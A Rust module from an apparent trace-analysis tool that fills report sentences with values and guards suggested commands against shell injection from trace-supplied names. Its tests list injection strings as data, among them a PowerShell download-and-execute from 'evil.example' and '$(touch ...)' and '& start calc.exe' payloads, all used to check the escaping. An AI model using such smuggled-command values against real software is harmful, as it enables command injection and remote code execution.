//! Sentences with numbers in them.
//!
//! `{column}` is the column's value in the format that its name asks for (`_ns`, `_bytes`, `_percent`, `share`), `{column:format}`
//! in the format asked for; `{{` is a brace. Formats: `duration`, `bytes`, `percent` (of a share from 0 to 1), `count`,
//! `plain` (a whole number as a command takes it), `number`, `energy` (joules), `text`.
//!
//! Names come from whoever made the trace, and what stands between backticks is typed in or copied. So only the text itself has
//! backticks, and a name between them that a shell could take for more is left to the reader: `CULPRIT`.

use etwhy_base::units::{bytes, digits, duration, energy, thousands};
use etwhy_sql::Cell;
use std::fmt::Write as _;

/// Fills a text; a name that `value` does not know stays as it is. Texts of findings go through `Rule::fill`.
pub fn fill(text: &str, value: &dyn Fn(&str) -> Option<Cell>) -> String {
    filled(text, value).0
}

/// Fills a text, if all values that it names are known.
pub fn fill_known(text: &str, value: &dyn Fn(&str) -> Option<Cell>) -> Option<String> {
    let (text, known) = filled(text, value);
    known.then_some(text)
}

/// The text, and whether all its values are there. Braces in values stay as they are.
fn filled(text: &str, value: &dyn Fn(&str) -> Option<Cell>) -> (String, bool) {
    let mut out = String::with_capacity(text.len());
    let mut known = true;
    let mut rest = text;
    while let Some((before, after)) = rest.split_once('{') {
        out.push_str(&before.replace("}}", "}"));
        if let Some(after) = after.strip_prefix('{') {
            out.push('{');
            rest = after;
            continue;
        }
        let Some((inside, behind)) = after.split_once('}') else {
            out.push('{');
            rest = after;
            continue;
        };
        let (name, format) = inside.split_once(':').unwrap_or((inside, ""));
        match value(name) {
            // "stopped 1 times" is "stopped once"; "1 times as many" stays.
            Some(Cell::I64(1)) if behind.starts_with(" times") && !behind.starts_with(" times as ") => {
                out.push_str("once");
                rest = behind.strip_prefix(" times").unwrap_or(behind);
                continue;
            }
            Some(cell) => {
                known &= cell != Cell::Null;
                let shown = shown(name, format, &cell);
                let command = command_at_end(&out);
                let is_number = !matches!(cell, Cell::Text(_));
                if is_number || command.is_none_or(|before| is_harmless(&shown, between_quotes(before))) {
                    out.push_str(&without_backticks(&shown));
                } else if command == Some("") && behind.starts_with('`') {
                    // A name alone is no command: it is quoted as a name.
                    out.pop();
                    let _ = write!(out, "'{}'", without_backticks(&shown));
                    rest = behind.strip_prefix('`').unwrap_or(behind);
                    continue;
                } else {
                    out.push_str(&placeholder(name));
                }
                if let Some((cores, after)) = cores(&shown, behind) {
                    out.truncate(out.len() - shown.len());
                    out.push_str(&cores);
                    rest = after;
                    continue;
                }
                if let (Cell::I64(1), Some((one, after))) = (&cell, singular(behind)) {
                    out.push_str(&one);
                    rest = after;
                    continue;
                }
            }
            None => {
                known = false;
                // Writing into a `String` cannot fail.
                let _ = write!(out, "{{{inside}}}");
            }
        }
        rest = behind;
    }
    out.push_str(&rest.replace("}}", "}"));
    (out, known)
}

/// More than all of a processor: "227 % of one processor" is "2.27 cores". And what stands behind it.
fn cores<'t>(shown: &str, behind: &'t str) -> Option<(String, &'t str)> {
    let behind = behind.strip_prefix(" of one processor")?;
    let percent: f64 = shown.strip_suffix(" %")?.replace(',', "").parse().ok()?;
    (percent > 100.0).then(|| (format!("{} cores", digits(percent / 100.0)), behind))
}

/// What a command between backticks that is not complete has so far.
fn command_at_end(text: &str) -> Option<&str> {
    let is_open = text.matches('`').count() % 2 == 1;
    text.rsplit('`').next().filter(|_| is_open)
}

/// What else is harmless where a command stops. Single quotes protect nothing in cmd.
fn between_quotes(command: &str) -> &'static str {
    if command.matches('"').count() % 2 == 1 { " /()" } else { "" }
}

/// True if sh, cmd and PowerShell all take a text for a part of one word, and no program takes it for an option. Letters beyond ASCII
/// are out: code pages of Windows make quotes and pipes of some. Pool tags end in spaces, which begin no other word.
fn is_harmless(text: &str, also: &str) -> bool {
    let word = text.trim_end_matches(' ');
    word.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
        && word.chars().all(|c| c.is_ascii_alphanumeric() || "_-.+:".contains(c) || also.contains(c))
}

/// A value beside commands: whoever looks for commands finds those of the text.
fn without_backticks(text: &str) -> String {
    text.replace('`', "'")
}

/// What stands for a value that is to be typed in.
pub(super) fn placeholder(name: &str) -> String {
    label(name).to_uppercase().replace(' ', "-")
}

/// A path as a command takes it, in quotes if it needs them; `FILE` if a shell could take it for more.
pub fn path_to_type(path: &str) -> String {
    let name = path.trim_start_matches(['/', '\\', '.']);
    // A backslash at the end would take the quote with it.
    if !is_harmless(name, "/\\ ()") || path.ends_with('\\') {
        return "FILE".to_owned();
    }
    if path.contains([' ', '(', ')']) { format!("\"{path}\"") } else { path.to_owned() }
}

/// Things that sentences count, as they stand behind a number.
const COUNTED: [&str; 45] = [
    "addresses",
    "blocks",
    "callbacks",
    "calls",
    "collections",
    "connections",
    "cycles",
    "days",
    "drivers",
    "errors",
    "events",
    "exceptions",
    "faults",
    "files",
    "flushes",
    "handles",
    "images",
    "interrupts",
    "lookups",
    "methods",
    "minutes",
    "objects",
    "opens",
    "operations",
    "processes",
    "processors",
    "products",
    "programs",
    "queries",
    "reads",
    "records",
    "requests",
    "resets",
    "routines",
    "samples",
    "seconds",
    "segments",
    "servers",
    "starts",
    "tags",
    "threads",
    "transfers",
    "types",
    "waits",
    "writes",
];

/// What may stand between a number and what it counts.
const BETWEEN: [&str; 13] = [
    "bad ",
    "error ",
    "exited ",
    "failed ",
    "file ",
    "garbage ",
    "hard ",
    "more ",
    "page ",
    "registry ",
    "security ",
    "short ",
    "such ",
];

/// What follows a one, if it is several of something: one of them, and what is behind.
fn singular(behind: &str) -> Option<(String, &str)> {
    let mut rest = behind.strip_prefix(' ')?;
    let mut one = String::from(" ");
    while let Some(word) = BETWEEN.iter().find(|word| rest.starts_with(**word)) {
        one.push_str(word);
        rest = rest.strip_prefix(*word)?;
    }
    COUNTED.iter().find_map(|many| {
        let after = rest.strip_prefix(many).filter(|after| !after.starts_with(char::is_alphanumeric))?;
        let stem = match many.strip_suffix("es") {
            Some(stem) if stem.ends_with(['s', 'h']) => stem,
            _ => many.strip_suffix('s')?,
        };
        let stem = stem.strip_suffix("ie").map_or(stem.to_owned(), |stem| format!("{stem}y"));
        Some((format!("{one}{stem}"), after))
    })
}

/// Names that a text refers to.
pub fn names(text: &str) -> Vec<&str> {
    let mut names = Vec::new();
    let mut rest = text;
    while let Some((_, after)) = rest.split_once('{') {
        if let Some(after) = after.strip_prefix('{') {
            rest = after;
            continue;
        }
        let Some((inside, behind)) = after.split_once('}') else { break };
        names.push(inside.split(':').next().unwrap_or(inside));
        rest = behind;
    }
    names
}

/// The first `{name}` that a text still has: readers should never see one.
pub fn unfilled(text: &str) -> Option<&str> {
    text.match_indices('{').find_map(|(at, _)| {
        let (inside, _) = text.get(at + 1..)?.split_once('}')?;
        inside.split(':').next().filter(|name| is_key(name))
    })
}

/// Names of columns and thresholds look like this; braces around anything else are the text's own.
pub fn is_key(name: &str) -> bool {
    name.starts_with(|c: char| c.is_ascii_lowercase())
        && name.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_')
}

/// What a key says to people: words apart, and without the unit, which stands behind the number. `least_percent` is `least`.
pub fn label(key: &str) -> String {
    const UNITS: [&str; 12] = [
        "_ns", "_us", "_ms", "_s", "_percent", "_bytes", "_kb", "_mb", "_mhz", "_joules", "_minutes",
        "_hours",
    ];
    let bare = UNITS.iter().find_map(|unit| key.strip_suffix(unit)).filter(|bare| !bare.is_empty());
    bare.unwrap_or(key).replace('_', " ")
}

fn shown(name: &str, format: &str, cell: &Cell) -> String {
    let number = match cell {
        Cell::Null => return "unknown".to_owned(),
        // A function of which not even the module is known: code without an image, or images were not recorded.
        Cell::Text(text) if text.starts_with("[unknown]!") => {
            return "code of an unknown module".to_owned();
        }
        Cell::Text(text) => return text.clone(),
        Cell::I64(n) => *n as f64,
        Cell::F64(n) => *n,
    };
    let format = if format.is_empty() { by_name(name, cell) } else { format };
    match format {
        "duration" => duration(number),
        "bytes" => bytes(number as i64),
        "percent" => format!("{} %", digits(number * 100.0)),
        "per_cent" => format!("{} %", digits(number)),
        "count" => thousands((number.round() as i64).into()),
        "plain" => format!("{:.0}", number.round()),
        "energy" => energy(number),
        _ => digits(number),
    }
}

fn by_name(name: &str, cell: &Cell) -> &'static str {
    if name.ends_with("_ns") {
        "duration"
    } else if name.ends_with("_bytes") {
        "bytes"
    } else if name.ends_with("_percent") {
        "per_cent"
    } else if name == "share" || name.ends_with("_share") {
        "percent"
    } else if name.ends_with("_joules") {
        "energy"
    } else if matches!(cell, Cell::I64(_)) {
        "count"
    } else {
        "number"
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sentences() {
        let value = |name: &str| match name {
            "culprit" => Some(Cell::Text("a.sys".to_owned())),
            "cost_ns" => Some(Cell::I64(1_500_000)),
            "share" => Some(Cell::F64(0.256)),
            "nothing" => Some(Cell::Null),
            "guid" => Some(Cell::Text("{{1}}".to_owned())),
            _ => None,
        };
        let text = fill("{culprit}: {cost_ns}, {share}, {cost_ns:count}, {nothing}, {other} {{x}}", &value);
        assert_eq!(text, "a.sys: 1.5 ms, 25.6 %, 1,500,000, unknown, {other} {x}");
        let counted = |n: i64| fill("stopped {n} times, {n} times as long", &|_| Some(Cell::I64(n)));
        assert_eq!(counted(1), "stopped once, 1 times as long");
        assert_eq!(counted(2), "stopped 2 times, 2 times as long");
        let counted = |n: i64| {
            fill("{n} records, {n} bad blocks in {n} processes, {n} recordsets", &|_| Some(Cell::I64(n)))
        };
        assert_eq!(counted(1), "1 record, 1 bad block in 1 process, 1 recordsets");
        let text = "{n} garbage collections, {n} addresses, {n} hard page faults, {n} queries, {n} flushes, {n} files, {n} types";
        let one = fill(text, &|_| Some(Cell::I64(1)));
        assert_eq!(
            one,
            "1 garbage collection, 1 address, 1 hard page fault, 1 query, 1 flush, 1 file, 1 type"
        );
        assert_eq!(counted(2), "2 records, 2 bad blocks in 2 processes, 2 recordsets");
        let of_one = |n: f64| fill("{a_percent} of one processor.", &|_| Some(Cell::F64(n)));
        assert_eq!([of_one(227.0), of_one(1234.0)], ["2.27 cores.", "12.3 cores."]);
        assert_eq!(of_one(100.0), "100 % of one processor.");
        assert_eq!(fill("/ms:{n:plain}", &|_| Some(Cell::I64(1_048_576))), "/ms:1048576");
        assert_eq!(fill("{guid} of {{{culprit}}}", &value), "{{1}} of {a.sys}");
        assert_eq!(fill_known("{culprit}", &value).as_deref(), Some("a.sys"));
        let nameless = fill("most by {function}", &|_| Some(Cell::Text("[unknown]!?".to_owned())));
        assert_eq!(nameless, "most by code of an unknown module");
        assert_eq!(fill_known("{culprit} took {nothing}", &value), None);
        assert_eq!(names("{a} {{b}} {c:count}"), ["a", "c"]);
        assert_eq!(
            ["least_percent", "critical_machine_percent", "_ns", "hot_cpus"].map(label),
            ["least", "critical machine", " ns", "hot cpus"]
        );
    }

    #[test]
    fn names_in_commands_are_harmless() {
        let said = |text: &str, name: &str| fill(text, &|_| Some(Cell::Text(name.to_owned())));
        let dump = "`etwhy dump clr_exception TRACE --where 'exception_type={exception_type}' --top 1`";
        let enlarge = "Enlarge it: `wevtutil sl \"{log}\" /ms:1` or `{log:text}`.";
        // Names as they are.
        for (text, name, wanted) in [
            ("`procdump -w {culprit}`", "my-app_2.exe", "`procdump -w my-app_2.exe`"),
            ("`nslookup {name} ADDRESS`", "h0.example.com", "`nslookup h0.example.com ADDRESS`"),
            ("`ping -l 1472 {remote}`", "fe80::1", "`ping -l 1472 fe80::1`"),
            ("`poolmon /i{tag}`", "Leak", "`poolmon /iLeak`"),
            ("`findstr /l {tag} *.sys`", "Fat ", "`findstr /l Fat  *.sys`"),
            (
                "`auditpol /get /subcategory:{{{guid}}} /r`",
                "0CCE-69",
                "`auditpol /get /subcategory:{0CCE-69} /r`",
            ),
            ("`wevtutil sl \"{log}\"`", "Windows PowerShell", "`wevtutil sl \"Windows PowerShell\"`"),
            ("`wevtutil sl \"{log}\"`", "A-B/Operational", "`wevtutil sl \"A-B/Operational\"`"),
            ("`{value}` under it", "Locale", "`Locale` under it"),
            ("`{value}` under it", "Common AppData", "'Common AppData' under it"),
        ] {
            assert_eq!(said(text, name), wanted);
        }
        // Names that sh, cmd or PowerShell take for more, and those that programs take for options.
        for name in [
            "x'; touch PWNED; echo '",
            "Security\" & start calc.exe & rem \"",
            "h0.x & calc.exe & rem",
            "a.exe & calc.exe &",
            "';w;",
            "a`powershell -nop iwr evil.example|iex`.exe",
            "$(calc)",
            "%PATH%",
            "svchost.exe (calc)",
            "a>b",
            "a\nb",
            "a\u{202e}b",
            "a\u{1c0}calc",
            "-x",
            "/x",
            "",
        ] {
            assert_eq!(said(dump, name), dump.replace("{exception_type}", "EXCEPTION-TYPE"), "{name}");
            for text in ["`procdump -w {culprit}`", "`findstr /l {culprit} x`", "`poolmon /i{culprit}`"] {
                assert_eq!(said(text, name), text.replace("{culprit}", "CULPRIT"), "{name}");
            }
            // Commands are those of the text, whatever names stand beside them.
            let beside = said("{culprit}: `a b` of {culprit}, `c d`", name);
            assert_eq!(beside.split('`').skip(1).step_by(2).collect::<Vec<_>>(), ["a b", "c d"], "{name}");
            assert_eq!(beside.matches('`').count(), 4, "{name}");
        }
        assert_eq!(
            said(enlarge, "Security\" & start calc.exe & rem \""),
            "Enlarge it: `wevtutil sl \"LOG\" /ms:1` or 'Security\" & start calc.exe & rem \"'."
        );
        // Numbers have spaces of their own.
        assert_eq!(fill("`x {cost_ns}`", &|_| Some(Cell::I64(1_500_000))), "`x 1.5 ms`");
    }

    #[test]
    fn paths_in_commands_are_harmless() {
        for path in ["a.etl", "/srv/fleet/a-1.etl", "../a.etl", r"C:\traces\a.etl", r"\\srv\share\a.etl"] {
            assert_eq!(path_to_type(path), path);
        }
        assert_eq!(path_to_type(r"C:\My Traces\a (2).etl"), "\"C:\\My Traces\\a (2).etl\"");
        for path in
            ["/t/a$(touch PWNFLEET);b.etl", "a&b.etl", "a\"b", "%a%", "-o", "a\nb", r"C:\a b\", "`x`", ""]
        {
            assert_eq!(path_to_type(path), "FILE", "{path}");
        }
    }
}
